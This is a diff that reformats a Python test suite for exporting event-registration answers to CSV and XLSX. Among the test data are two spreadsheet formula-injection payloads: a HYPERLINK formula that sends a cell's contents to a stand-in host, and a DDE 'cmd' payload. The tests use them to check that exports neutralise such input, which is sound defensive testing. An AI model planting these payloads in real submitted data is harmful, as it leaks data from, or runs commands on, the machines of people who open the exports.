@@ -16,10 +16,24 @@ from tests.api.forms.helpers import ACCESS, ARRIVAL, DIET, GUESTS, NIGHT, NOTES,
 from tests.factories import bearer, make_event, make_session, register
 
 SOURCE = {"label": {"pl": "Źródło informacji", "en": "How did you hear of us"}, "type": "text"}
-FORM = [("night", {**NIGHT, "required": False}), ("diet", DIET), ("notes", NOTES), ("access", ACCESS),
-        ("arrival", ARRIVAL), ("guests", GUESTS), ("source", SOURCE)]
-LABELS = ["Nocleg 29/30 XI", "Dieta", "Uwagi", "Potrzebuję dostępu bez schodów", "Data przyjazdu",
-          "Liczba osób towarzyszących", "Źródło informacji"]
+FORM = [
+    ("night", {**NIGHT, "required": False}),
+    ("diet", DIET),
+    ("notes", NOTES),
+    ("access", ACCESS),
+    ("arrival", ARRIVAL),
+    ("guests", GUESTS),
+    ("source", SOURCE),
+]
+LABELS = [
+    "Nocleg 29/30 XI",
+    "Dieta",
+    "Uwagi",
+    "Potrzebuję dostępu bez schodów",
+    "Data przyjazdu",
+    "Liczba osób towarzyszących",
+    "Źródło informacji",
+]
 FORMULA = '=HYPERLINK("http://zło.example/?x="&A1,"Kliknij")'
 
 
@@ -32,8 +46,11 @@ def export(client, admin, event_id, **params):
 def xlsx(response):
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     header = [c.value for c in sheet[1]]
-    return sheet, header, {row[0]: dict(zip(header, row, strict=True))
-                           for row in sheet.iter_rows(min_row=2, values_only=True)}
+    return (
+        sheet,
+        header,
+        {row[0]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)},
+    )
 
 
 def form(client, admin):
@@ -42,15 +59,33 @@ def form(client, admin):
     q = {name: add_question(client, admin, ev["id"], body) for name, body in FORM}
     room, _ = (o["id"] for o in q["night"]["options"])
     veg, gluten = (o["id"] for o in q["diet"]["options"])
-    register(client, ev["id"], 1, last_name="Żółkiewska", answers={
-        str(q["night"]["id"]): room, str(q["diet"]["id"]): [gluten, veg],
-        str(q["notes"]["id"]): "Przyjadę pociągiem;\r\nodbiór z dworca, proszę", str(q["access"]["id"]): True,
-        str(q["arrival"]["id"]): "2022-11-28", str(q["guests"]["id"]): 2, str(q["source"]["id"]): "Zażółć gęślą jaźń",
-    })
-    register(client, ev["id"], 2, last_name="Ćwik", answers={
-        str(q["diet"]["id"]): [veg], str(q["access"]["id"]): False, str(q["guests"]["id"]): 0.5,
-        str(q["source"]["id"]): FORMULA,
-    })
+    register(
+        client,
+        ev["id"],
+        1,
+        last_name="Żółkiewska",
+        answers={
+            str(q["night"]["id"]): room,
+            str(q["diet"]["id"]): [gluten, veg],
+            str(q["notes"]["id"]): "Przyjadę pociągiem;\r\nodbiór z dworca, proszę",
+            str(q["access"]["id"]): True,
+            str(q["arrival"]["id"]): "2022-11-28",
+            str(q["guests"]["id"]): 2,
+            str(q["source"]["id"]): "Zażółć gęślą jaźń",
+        },
+    )
+    register(
+        client,
+        ev["id"],
+        2,
+        last_name="Ćwik",
+        answers={
+            str(q["diet"]["id"]): [veg],
+            str(q["access"]["id"]): False,
+            str(q["guests"]["id"]): 0.5,
+            str(q["source"]["id"]): FORMULA,
+        },
+    )
     register(client, ev["id"], 3, last_name="Nowak")
     return ev, q
 
@@ -62,9 +97,14 @@ def test_csv_has_a_column_per_question_after_the_chosen_ones(client, admin):
     assert list(next(iter(rows.values()))) == [*DEFAULT_COLUMNS, *LABELS]
     assert list(rows) == ["Ćwik", "Nowak", "Żółkiewska"]  # Polish order, as before
     assert [rows["Żółkiewska"][label] for label in LABELS] == [
-        "Tak, pokój w hotelu", "wegetariańska; bezglutenowa",  # option labels, in the question's order
+        "Tak, pokój w hotelu",
+        "wegetariańska; bezglutenowa",  # option labels, in the question's order
         "Przyjadę pociągiem;\r\nodbiór z dworca, proszę",  # line break and separator inside one quoted cell
-        "yes", "2022-11-28", "2", "Zażółć gęślą jaźń"]
+        "yes",
+        "2022-11-28",
+        "2",
+        "Zażółć gęślą jaźń",
+    ]
     assert [rows["Ćwik"][label] for label in LABELS] == ["", "wegetariańska", "", "no", "", "0.5", "'" + FORMULA]
     assert [rows["Nowak"][label] for label in LABELS] == [""] * len(LABELS)  # no answers: empty cells
     raw = r.content.decode("utf-8-sig")
@@ -80,8 +120,14 @@ def test_xlsx_has_typed_cells_per_question(client, admin):
     assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}4"
     zolkiewska, cwik, nowak = rows["Żółkiewska"], rows["Ćwik"], rows["Nowak"]
     assert [zolkiewska[label] for label in LABELS] == [
-        "Tak, pokój w hotelu", "wegetariańska; bezglutenowa", "Przyjadę pociągiem;\nodbiór z dworca, proszę",
-        True, datetime(2022, 11, 28), 2, "Zażółć gęślą jaźń"]
+        "Tak, pokój w hotelu",
+        "wegetariańska; bezglutenowa",
+        "Przyjadę pociągiem;\nodbiór z dworca, proszę",
+        True,
+        datetime(2022, 11, 28),
+        2,
+        "Zażółć gęślą jaźń",
+    ]
     assert [cwik[label] for label in LABELS] == [None, "wegetariańska", None, False, None, 0.5, FORMULA]
     assert [nowak[label] for label in LABELS] == [None] * len(LABELS)
     notes = sheet.cell(2 + list(rows).index("Żółkiewska"), header.index("Uwagi") + 1)
@@ -95,8 +141,16 @@ def test_formula_answers_are_neutralised(client, admin):
     source = add_question(client, admin, ev["id"], SOURCE)
     notes = add_question(client, admin, ev["id"], NOTES)
     sneaky = add_question(client, admin, ev["id"], {"label": {"pl": "=1+1"}, "type": "text"})
-    register(client, ev["id"], 1, answers={str(source["id"]): FORMULA, str(notes["id"]): "@SUM(1+1)*cmd|' /C calc'!A0",
-                                           str(sneaky["id"]): "-2+3"})
+    register(
+        client,
+        ev["id"],
+        1,
+        answers={
+            str(source["id"]): FORMULA,
+            str(notes["id"]): "@SUM(1+1)*cmd|' /C calc'!A0",
+            str(sneaky["id"]): "-2+3",
+        },
+    )
     text = export(client, admin, ev["id"]).content.decode("utf-8-sig")
     header, line = text.split("\r\n")[:2]
     assert header.endswith(",Źródło informacji,Uwagi,'=1+1")
@@ -121,7 +175,9 @@ def test_event_without_questions_keeps_the_old_columns(client, admin):
     add_question(client, admin, other["id"], SOURCE)  # another event's question is not a column here
     assert list(parse_csv(export(client, admin, ev["id"]).content)[0]) == list(DEFAULT_COLUMNS)
     assert list(parse_csv(export(client, admin, ev["id"], columns="email,last_name").content)[0]) == [
-        "email", "last_name"]
+        "email",
+        "last_name",
+    ]
     _, header, rows = xlsx(export(client, admin, ev["id"], format="xlsx"))
     assert header == list(DEFAULT_COLUMNS) and list(rows) == ["Żak"]
 
@@ -131,11 +187,16 @@ def test_questions_follow_a_chosen_column_list_and_the_session_export(client, ad
     rows = parse_csv(export(client, admin, ev["id"], columns="last_name").content)
     assert list(rows[0]) == ["last_name", *LABELS]
     assert [(r["last_name"], r["Dieta"]) for r in rows] == [
-        ("Ćwik", "wegetariańska"), ("Nowak", ""), ("Żółkiewska", "wegetariańska; bezglutenowa")]
+        ("Ćwik", "wegetariańska"),
+        ("Nowak", ""),
+        ("Żółkiewska", "wegetariańska; bezglutenowa"),
+    ]
     session = make_session(client, admin, ev["id"])
     token = register(client, ev["id"], 4, last_name="Łęcka", answers={str(q["guests"]["id"]): 3})["token"]
-    assert client.post("/api/v1/me/enrollments", json={"session_id": session["id"]},
-                       headers=bearer(token)).status_code == 201
+    assert (
+        client.post("/api/v1/me/enrollments", json={"session_id": session["id"]}, headers=bearer(token)).status_code
+        == 201
+    )
     r = client.get(f"/api/v1/sessions/{session['id']}/attendees/export", headers=admin)
     assert r.status_code == 200, r.text
     [row] = parse_csv(r.content)
@@ -153,8 +214,12 @@ def test_labels_in_english_and_duplicate_labels(app, client, admin):
         questions = questions_of(db, event_id=ev["id"])
         en = answer_columns(questions, lang="en", taken=["last_name", "email"])
         pl = answer_columns(questions)
-    assert [a.column.title for a in en] == ["Night 29/30 Nov", "Uwagi", f"Uwagi [{again['id']}]",
-                                            f"email [{email['id']}]"]
+    assert [a.column.title for a in en] == [
+        "Night 29/30 Nov",
+        "Uwagi",
+        f"Uwagi [{again['id']}]",
+        f"email [{email['id']}]",
+    ]
     assert [a.column.key for a in en] == [f"question_{q['id']}" for q in (night, notes, again, email)]
     assert list(en[0].options.values()) == ["Yes, a hotel room", "No need"]
     assert [a.column.title for a in pl][:2] == ["Nocleg 29/30 XI", "Uwagi"]
@@ -169,4 +234,5 @@ def test_answers_are_read_page_by_page(app, client, admin):
         register(client, ev["id"], i, last_name=f"Lis-{i}", answers={str(guests["id"]): i} if i % 3 else {})
     pairs = list(stream_answered(app.state.engine, ExportSpec(event_id=ev["id"]), page_size=2))
     assert [(row.last_name, answers.get(guests["id"])) for row, answers in pairs] == [
-        (f"Lis-{i}", i if i % 3 else None) for i in range(1, 8)]
+        (f"Lis-{i}", i if i % 3 else None) for i in range(1, 8)
+    ]
